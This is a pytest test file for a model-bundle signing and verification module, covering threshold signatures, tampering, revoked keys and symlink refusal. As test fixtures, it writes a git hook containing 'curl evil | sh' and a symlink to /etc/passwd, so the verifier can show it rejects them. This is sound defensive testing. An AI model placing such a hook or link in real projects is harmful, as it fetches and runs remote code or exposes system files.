"""Signatures: k-of-n over real model-signing files, accepted by the official CLI."""

from __future__ import annotations

import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from bundle_fixtures import Fleet, make_folder

from edge_agent.bundles import (
    generate_keypair,
    hash_folder,
    load_public_key,
    sign_bundle,
    verify_bundle,
)
from edge_agent.errors import EdgeAgentError

MODEL_SIGNING = Path(sys.executable).with_name("model_signing")


def _keys(fleet: Fleet, *names: str) -> dict[str, object]:
    return {
        fleet.key(n).key_id: load_public_key(fleet.key(n).public_key_path.read_bytes())
        for n in names
    }


def test_key_files_and_ids(tmp_path: Path) -> None:
    fleet = Fleet(tmp_path)
    kp = fleet.key("ops")
    assert stat.S_IMODE(kp.private_key_path.stat().st_mode) == 0o600
    assert len(kp.key_id) == 64
    assert kp.key_id != fleet.key("other").key_id
    with pytest.raises(EdgeAgentError, match="refusing to overwrite"):
        generate_keypair(tmp_path / "keys", "ops")


def _cli_verify(folder: Path, kid: str, pub: Path, *extra: str) -> subprocess.CompletedProcess[str]:
    sig = folder / "signatures" / f"{kid}.sig"
    cmd = [str(MODEL_SIGNING), "verify", "key", str(folder), "--signature", str(sig), *extra]
    return subprocess.run(
        [*cmd, "--public_key", str(pub)], capture_output=True, text=True, timeout=120
    )


def test_official_model_signing_cli_accepts_our_bundle(tmp_path: Path) -> None:
    fleet = Fleet(tmp_path)
    folder = fleet.sign(make_folder(tmp_path, 1), "ops1", "ops2")
    for name in ("ops1", "ops2"):
        kp = fleet.key(name)
        res = _cli_verify(folder, kp.key_id, kp.public_key_path)
        assert res.returncode == 0, res.stderr
        assert "Verification succeeded" in res.stdout
    (folder / "model.onnx").write_bytes(b"tampered")
    res = _cli_verify(folder, fleet.key("ops1").key_id, fleet.key("ops1").public_key_path)
    assert res.returncode == 1
    assert "Hash mismatch for 'model.onnx'" in res.stderr


def test_official_cli_needs_no_ignore_git_paths_to_judge_as_we_do(tmp_path: Path) -> None:
    fleet = Fleet(tmp_path)
    folder = fleet.sign(make_folder(tmp_path, 1), "ops1")
    kp = fleet.key("ops1")
    (folder / ".git" / "hooks").mkdir(parents=True)
    (folder / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\ncurl evil | sh\n")
    # Its defaults skip git paths and accept the added hook; ours (and the box) refuse it.
    assert _cli_verify(folder, kp.key_id, kp.public_key_path).returncode == 0
    strict = _cli_verify(folder, kp.key_id, kp.public_key_path, "--no-ignore-git-paths")
    assert strict.returncode == 1
    report = verify_bundle(folder, _keys(fleet, "ops1"), 1)  # type: ignore[arg-type]
    assert report.extra_files == (".git/hooks/post-checkout",)


def test_threshold_counts_distinct_trusted_keys(tmp_path: Path) -> None:
    fleet = Fleet(tmp_path)
    folder = fleet.sign(make_folder(tmp_path, 1), "a", "b", "rogue")
    keys = _keys(fleet, "a", "b", "c")
    assert verify_bundle(folder, keys, 2).ok  # type: ignore[arg-type]
    report = verify_bundle(folder, keys, 3)  # type: ignore[arg-type]
    assert not report.ok
    assert "2 valid signature(s), 3 required" in report.summary()
    revoked = frozenset({fleet.key("b").key_id})
    report = verify_bundle(folder, keys, 2, revoked=revoked)  # type: ignore[arg-type]
    assert not report.ok
    assert {(c.key_id, c.status) for c in report.signatures} == {
        (fleet.key("a").key_id, "valid"),
        (fleet.key("b").key_id, "revoked"),
        (fleet.key("rogue").key_id, "unknown-key"),
    }
    # A copy of a valid signature under another trusted key's name does not count twice.
    sigs = folder / "signatures"
    shutil.copy(sigs / f"{fleet.key('a').key_id}.sig", sigs / f"{fleet.key('c').key_id}.sig")
    report = verify_bundle(folder, keys, 3)  # type: ignore[arg-type]
    assert not report.ok
    assert (fleet.key("c").key_id, "bad-signature") in {
        (c.key_id, c.status) for c in report.signatures
    }


def test_report_lists_missing_extra_changed(tmp_path: Path) -> None:
    fleet = Fleet(tmp_path)
    folder = fleet.sign(make_folder(tmp_path, 1), "a")
    (folder / "model.onnx").write_bytes(b"changed")
    (folder / "tokenizer" / "tokenizer.json").unlink()
    (folder / "tokenizer" / "added.txt").write_text("x")
    (folder / "signatures" / "notes.txt").write_text("stray")
    report = verify_bundle(folder, _keys(fleet, "a"), 1)  # type: ignore[arg-type]
    assert report.changed_files == ("model.onnx",)
    assert report.missing_files == ("tokenizer/tokenizer.json",)
    assert report.extra_files == ("tokenizer/added.txt",)
    assert "unexpected entry signatures/notes.txt" in report.summary()
    assert not report.ok


def test_symlink_in_folder_is_refused(tmp_path: Path) -> None:
    fleet = Fleet(tmp_path)
    folder = fleet.sign(make_folder(tmp_path, 1), "a")
    (folder / "link").mkdir()
    (folder / "link" / "passwd").symlink_to("/etc/passwd")
    # The message names the link relative to the bundle, and offers no option we lack.
    for call in (
        lambda: hash_folder(folder),
        lambda: verify_bundle(folder, _keys(fleet, "a"), 1),  # type: ignore[arg-type]
        lambda: sign_bundle(folder, fleet.key("a").private_key_path),
    ):
        with pytest.raises(EdgeAgentError) as info:
            call()
        assert info.value.message == "bundle folder holds a symlink: link/passwd (bundles never do)"
        assert "allow_symlinks" not in info.value.message


def test_signing_refuses_a_folder_without_bundle_json(tmp_path: Path) -> None:
    fleet = Fleet(tmp_path)
    (tmp_path / "empty").mkdir()
    with pytest.raises(EdgeAgentError, match=r"bundle\.json is missing"):
        sign_bundle(tmp_path / "empty", fleet.key("a").private_key_path)
